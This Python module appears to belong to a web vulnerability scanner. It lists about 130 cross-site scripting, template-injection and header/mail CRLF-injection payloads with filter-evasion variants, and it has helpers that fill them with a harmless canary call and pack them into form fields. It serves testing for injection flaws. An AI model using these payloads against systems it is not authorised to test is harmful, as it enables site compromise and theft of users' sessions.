"""Texts that would run as script wherever a page, a mail or a template took them for more than text.

Each calls ``ran`` with its own number and that of the field into which it is typed. All are ours.
"""

import re
from collections.abc import Iterable
from urllib.parse import quote

CALL = "§"
"""Stands for the call in the families below."""

MARK = "wuzzle"
"""What stands on a page only where the server has evaluated one of the texts as a template."""

FAMILIES = {
    "tags": [
        "<script>§</script>",
        "<ScRiPt>§</sCrIpT>",
        "<script/x>§</script>",
        "<scr<script>ipt>§</scr</script>ipt>",
        "<script src=data:,§></script>",
        '<script src="data:text/javascript,§"></script>',
        "<script type=module>§</script>",
        "<script>/*<!--*/§//--></script>",
        "<<script>§//<</script>",
        "</title><script>§</script>",
        "</textarea><script>§</script>",
        "</style><script>§</script>",
        "</noscript><script>§</script>",
        "</option></select><script>§</script>",
        '<noscript><p title="</noscript><script>§</script>">',
        "<template></template><script>§</script>",
        "<plaintext><script>§</script>",
    ],
    "event handlers": [
        "<img src=x onerror=§>",
        '<img src=x onerror="§">',
        "<img/src/onerror=§>",
        "<img src onerror=§//",
        "<body onload=§>",
        "<body onpageshow=§>",
        "<input autofocus onfocus=§>",
        "<textarea autofocus onfocus=§>",
        "<a href=# autofocus onfocus=§>x</a>",
        "<div onclick=§>x</div>",
        "<p onmouseover=§>x",
        "<details open ontoggle=§>",
        "<video src=x onerror=§>",
        "<video><source onerror=§></video>",
        "<object data=x onerror=§>",
        "<iframe onload=§></iframe>",
        "<link rel=stylesheet href=x onerror=§>",
        "<style onload=§></style>",
        "<marquee onstart=§>x",
        "<x onpointerenter=§>x</x>",
        "<x tabindex=1 autofocus onfocus=§>",
        "<input type=image src=x onerror=§>",
        "<form><button formaction=javascript:§>x",
    ],
    "svg": [
        "<svg onload=§>",
        "<svg/onload=§>",
        "<svg><script>§</script>",
        "<svg><script href=data:,§ />",
        "<svg><a xlink:href=javascript:§><text y=9>x",
        "<svg><animate onbegin=§ attributeName=x dur=1s>",
        "<svg><image href=x onerror=§>",
        "<svg><style><img src=x onerror=§></style>",
        '<svg></p><style><a id="</style><img src=x onerror=§>">',
        "<svg><foreignObject><body onload=§>",
        "<svg><![CDATA[><img src=x onerror=§>]]>",
    ],
    "mathml": [
        "<math href=javascript:§>x</math>",
        "<math><mtext><img src=x onerror=§>",
        "<math><mtext><mglyph><style></math><img src onerror=§>",
        "<math><annotation-xml encoding=text/html><img src=x onerror=§>",
    ],
    "javascript urls": [
        "javascript:§",
        "JaVaScRiPt:§",
        "java\tscript:§",
        "java&#9;script:§",
        "javascript&colon;§",
        "javascript://%0a§",
        "\x01javascript:§",
        "vbscript:§",
        "<a href=javascript:§>x</a>",
        '<a href="java&Tab;script:§">x</a>',
        '<a href=" javascript:§">x</a>',
        "<iframe src=javascript:§></iframe>",
        "<object data=javascript:§>",
        "<embed src=javascript:§>",
        '<meta http-equiv=refresh content="0;url=javascript:§">',
        "<base href=javascript:§//><a href=x>x</a>",
        "<map><area href=javascript:§ shape=default></map>",
    ],
    "data urls": [
        "data:text/html,<script>§</script>",
        '<iframe src="data:text/html,<script>§</script>"></iframe>',
        '<object data="data:text/html,<script>§</script>">',
        '<embed src="data:text/html,<script>§</script>">',
        '<iframe srcdoc="<script>§</script>"></iframe>',
        '<iframe srcdoc="&lt;script&gt;§&lt;/script&gt;"></iframe>',
    ],
    "attributes": [
        '"><script>§</script>',
        "'><script>§</script>",
        '"><img src=x onerror=§>',
        "'><svg onload=§>",
        '" autofocus onfocus="§',
        '" onmouseover="§',
        "' onmouseover=§ x='",
        "` onmouseover=§ x=`",
        "x onmouseover=§",
        '" style="x" onclick="§',
        "&quot;><svg onload=§>",
        '\\"><svg onload=§>',
        "%22%3E%3Csvg%20onload=§%3E",
    ],
    "strings in scripts": [
        '";§//',
        "';§//",
        "\\';§//",
        "`;§//",
        "${§}",
        "</script><svg onload=§>",
        '"-§-"',
        "*/§/*",
        "\\u003cscript>§\\u003c/script>",
        '"}</script><svg onload=§>',
        '{"@type":"Event","name":"</script><svg onload=§>"}',
    ],
    "templates": [
        "{{§}}",
        '{{"wuz"|add:"zle"}}{{§}}',
        "{% debug %}{{§}}",
        '{%firstof "wuz" %}zle§',
        "{{constructor.constructor('§')()}}",
        "#{§}",
        "<%=§%>",
    ],
    "style": [
        '<style>@import"javascript:§"</style>',
        '<p style="background:url(javascript:§)">x',
        "<style>*{x:expression(§)}</style><svg onload=§>",
        "<link rel=stylesheet href=javascript:§>",
    ],
    "comments": [
        "--><svg onload=§>",
        "<!--><svg onload=§>-->",
        "<!--><img src=x onerror=§>",
        "]]><svg onload=§>",
        "<![CDATA[<svg onload=§>]]>",
        "<?xml <svg onload=§>?>",
        "<!x <svg onload=§>",
        "<![if !IE]><svg onload=§>",
    ],
    "headers and lines": [
        "x\r\nContent-Type: text/html\r\n\r\n<svg onload=§>",
        "x\nBcc: eve@example.org\n\n<svg onload=§>",
        "x\r\nSet-Cookie: ran=1\r\n\r\n<svg onload=§>",
        "<script\n>§</script\n>",
        "<img src=x onerror\n=§>",
        "<img src=x onerror\x0c=§>",
        "x\u2028<svg onload=§>",
        "%0d%0a%0d%0a<svg onload=§>",
    ],
    "unicode": [
        "＜script＞§＜/script＞",
        "<ſcript>§</ſcript>",
        "<ımg src=x onerror=§>",
        "‹svg onload=§›",
        "\u202e<svg onload=§>",
        "<svg\u00a0onload=§>",
        "<svg\u200bonload=§>",
        "\u02ba onmouseover=§",
        "+ADw-script+AD4-§+ADw-/script+AD4-",
        "%c0%bcsvg onload=§%c0%be",
        "&lt;svg onload=§&gt;",
        "&amp;lt;svg onload=§&amp;gt;",
        "<s\x00vg onload=§>",
    ],
}

TEXTS = dict(enumerate((each for family in FAMILIES.values() for each in family), 1))
"""Every text, by its number, before anybody types it."""

LINES = {number for number, text in TEXTS.items() if all(letter >= " " and letter != "\u2028" for letter in text)}
"""Those that are plain text on one line; a field may refuse the others."""

SWALLOWS = re.compile(r"<(plaintext|textarea|template|noscript|style|title|math)|<!|//$|[\"'`\\]$")
"""What may make text of the texts behind it, or part of itself: such ones stand last."""


def payload(number: int, field: int = 0) -> str:
    """A text as it is typed into a field."""
    return TEXTS[number].replace(CALL, f"ran({number},{field})")


def packed(numbers: Iterable[int], room: int, *, encoded: bool = False) -> list[list[int]]:
    """The numbers in heaps, so that the texts of each heap fit together; ``encoded`` as in the body of a form."""
    sizes = {number: _size(payload(number, 999), encoded) + 1 for number in numbers}
    heaps: list[list[int]] = []
    rooms: list[int] = []
    for number in sorted(sizes, key=sizes.__getitem__, reverse=True):
        fitting = next((at for at, left in enumerate(rooms) if sizes[number] <= left), None)
        if fitting is None:
            fitting = len(heaps)
            heaps.append([])
            rooms.append(room + 1)
        heaps[fitting].append(number)
        rooms[fitting] -= sizes[number]
    return [sorted(heap, key=_swallows) for heap in heaps]


def _size(text: str, encoded: bool) -> int:
    return len(quote(text)) if encoded else len(text)


def _swallows(number: int) -> bool:
    return bool(SWALLOWS.search(TEXTS[number]))


def text_of(numbers: Iterable[int], field: int = 0) -> str:
    """The texts of a heap, as they are typed into one field."""
    return " ".join(payload(number, field) for number in numbers)
